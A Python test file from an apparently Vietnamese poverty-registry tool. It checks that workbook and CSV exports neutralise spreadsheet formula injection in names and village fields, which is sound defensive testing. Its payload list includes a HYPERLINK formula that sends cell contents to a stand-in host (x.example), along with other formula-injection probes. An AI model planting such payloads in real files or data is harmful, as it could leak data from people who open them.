"""Names and villages that look like formulas stay text in every export (#11.6): no formula cell in
any workbook, and no CSV cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import zipfile

import polars as pl
import pytest

from giamngheo.cli.main import main
from giamngheo.synth.population import synthesize

pytestmark = pytest.mark.django_db
EVIL = ['=HYPERLINK("http://x.example/leak?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(path) -> int:
    with zipfile.ZipFile(path) as book:
        return sum(book.read(n).decode().count("<f>") for n in book.namelist() if n.startswith("xl/worksheets/"))


def _runnable_cells(text: str, skip_columns: tuple[str, ...] = ()) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header = rows[0]
    return [
        cell
        for row in rows[1:]
        for name, cell in zip(header, row, strict=False)
        if name not in skip_columns and cell.startswith(RUNNABLE) and not _number(cell)
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.fixture
def evil_registry(tmp_path):
    hh, members = synthesize("14", 40, seed=4)
    code = hh.item(0, "admin_code")
    hh = hh.filter(pl.col("admin_code") == code)
    members = members.filter(pl.col("household_id").is_in(hh.get_column("household_id").implode()))
    n, m = hh.height, members.height
    hh = hh.with_columns(pl.Series("village", [EVIL[i % len(EVIL)] for i in range(n)]))
    members = members.with_columns(pl.Series("full_name", [EVIL[i % len(EVIL)] for i in range(m)]))
    hh.write_parquet(tmp_path / "households.parquet")
    members.write_parquet(tmp_path / "members.parquet")
    assert main(["load", str(tmp_path)]) == 0
    return code


def test_registry_exports_write_formula_like_text_as_text(tmp_path, evil_registry):
    book = tmp_path / "export.xlsx"
    assert main(["export", "--unit", evil_registry, "--output", str(book), "--reason", "kiểm tra"]) == 0
    assert _formula_cells(book) == 0
    names = pl.read_excel(book, sheet_name="members").get_column("full_name").to_list()
    assert '=HYPERLINK("http://x.example/leak?"&A1,"click")' in "".join(names)  # kept readable, as text
    folder = tmp_path / "folder"
    assert main(["export", "--unit", evil_registry, "--output", str(folder), "--reason", "kiểm tra"]) == 0
    for name in ("households.csv", "members.csv"):
        assert _runnable_cells((folder / name).read_text(encoding="utf-8")) == [], name
    population = tmp_path / "population.csv"
    assert (
        main(
            [
                "export",
                "--unit",
                evil_registry,
                "--kind",
                "population",
                "--output",
                str(population),
                "--reason",
                "kiểm tra",
            ]
        )
        == 0
    )
    assert _runnable_cells(population.read_text(encoding="utf-8")) == []
    population_book = tmp_path / "population.xlsx"
    assert (
        main(
            [
                "export",
                "--unit",
                evil_registry,
                "--kind",
                "population",
                "--output",
                str(population_book),
                "--reason",
                "kiểm tra",
            ]
        )
        == 0
    )
    assert _formula_cells(population_book) == 0


def test_report_csv_and_workbook_keep_formula_like_text_as_text(tmp_path):
    from giamngheo.reports.excel import table_xlsx
    from giamngheo.reports.table import Col, Table

    table = Table(
        "danh-sach",
        "Danh sách",
        "List",
        "Xã",
        "2026",
        [Col("name", "Tên", "Name", "text")],
        [{"_level": "member", "name": value} for value in EVIL],
        [],
    )
    assert _runnable_cells(table.to_csv().decode("utf-8")) == []
    book = tmp_path / "report.xlsx"
    book.write_bytes(table_xlsx(table))
    assert _formula_cells(book) == 0
